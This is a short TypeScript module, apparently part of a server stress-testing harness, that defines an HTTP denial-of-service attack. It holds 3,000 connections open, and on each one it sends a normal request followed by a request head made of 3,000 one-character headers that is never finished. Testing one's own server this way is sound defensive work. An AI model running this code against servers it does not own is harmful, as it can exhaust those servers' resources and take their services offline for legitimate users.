/** Attack: HTTP heads of many short headers that never end. */
import type { Attack } from "../attack.ts";
import { type AttackSocket, keepConnections, tallyFigures } from "../connections.ts";

const CONNECTIONS = 3_000;
const HEADERS = 3_000;

/** A whole request that is not plain, then one whose head is many short headers and never ends. */
export const attack: Attack = {
  summary: `${CONNECTIONS} second HTTP requests with ${HEADERS} headers of one character, never ended`,
  run: async ({ httpPort: port }, signal) => {
    const first = "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n";
    const second = `POST / HTTP/1.1\r\nHost: localhost\r\n${"a:\r\n".repeat(HEADERS)}`;
    const use = async ({ write, answer }: AttackSocket): Promise<void> => {
      await write(first);
      await answer();
      await write(second);
    };
    return tallyFigures(await keepConnections({ port, count: CONNECTIONS, signal, use }));
  },
};
